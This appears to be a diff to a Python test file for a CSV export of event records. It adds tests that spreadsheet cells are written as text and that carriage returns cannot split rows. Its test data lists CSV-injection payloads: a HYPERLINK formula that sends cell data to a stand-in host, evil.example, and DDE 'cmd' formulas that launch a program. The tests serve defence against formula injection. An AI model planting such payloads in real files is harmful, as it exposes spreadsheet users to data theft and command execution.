@@ -171,7 +171,7 @@ def test_csv_row_values(rustock):
 def test_csv_of_nothing_is_only_the_header():
     out = io.StringIO()
     assert write_csv([], out) == 0
-    assert out.getvalue() == ",".join(CSV_COLUMNS) + "\n"
+    assert out.getvalue() == ",".join(CSV_COLUMNS) + "\r\n"
 
 
 def test_csv_quotes_values_with_commas(make_event):
@@ -179,3 +179,31 @@ def test_csv_quotes_values_with_commas(make_event):
     write_csv(_events(make_event(user_agent='a, "b"')), out)
     [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
     assert row["extra.user_agent"] == 'a, "b"'
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(make_event, value):
+    out = io.StringIO()
+    write_csv(_events(make_event(host=value, user_agent=value, bot_id=value)), out)
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    for name in ("extra.http_host", "extra.user_agent", "extra.bot_id"):
+        assert row[name] == "'" + value
+
+
+@pytest.mark.parametrize("value", ["a\rb", "a\r\nb,c", '"\r"'])
+def test_csv_a_carriage_return_in_a_cell_cannot_split_the_row(make_event, value):
+    out = io.StringIO()
+    write_csv(_events(make_event(user_agent=value), make_event(user_agent="ok")), out)
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert [len(r) for r in rows] == [len(CSV_COLUMNS)] * 3
+    assert rows[1][CSV_COLUMNS.index("extra.user_agent")] == value
